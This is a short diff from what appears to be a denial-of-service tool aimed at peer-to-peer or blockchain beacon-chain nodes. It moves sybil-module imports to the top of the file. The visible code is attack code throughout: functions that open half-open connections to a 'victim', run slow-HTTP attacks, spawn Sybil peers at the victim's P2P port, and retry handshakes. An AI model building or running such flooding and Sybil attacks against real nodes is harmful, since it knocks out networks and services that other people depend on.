@@ -15,6 +15,7 @@ import time
 
 from . import namespaces
 from .node import DHT
+from .sybil import HELLO, Sybil, line
 
 P2P = 13000
 # As many as a node grants to an address.
@@ -43,7 +44,6 @@ class Flood:
 
 
 async def half_open(victim, port, source, counts, until):
-    from .sybil import HELLO, line
     reader, writer = await asyncio.open_connection(victim, port, local_addr=(source, 0))
     try:
         writer.write(line(HELLO) + line("/noise"))
@@ -80,7 +80,6 @@ async def slow_http(victim, port, source, counts, until):
 
 
 async def sybils(victim, port, source, counts, until):
-    from .sybil import Sybil
     number = random.getrandbits(64)
     # At the beacon chain's door; half of them are silent.
     await Sybil(number, number % 2 == 0, counts).run(victim, P2P, source, max(1, until - time.monotonic()))
@@ -88,7 +87,6 @@ async def sybils(victim, port, source, counts, until):
 
 async def knock(victim, source, until):
     """Tries again each second until a handshake succeeds."""
-    from .sybil import Sybil
     began, tries = time.monotonic(), 0
     while time.monotonic() < until:
         tries += 1
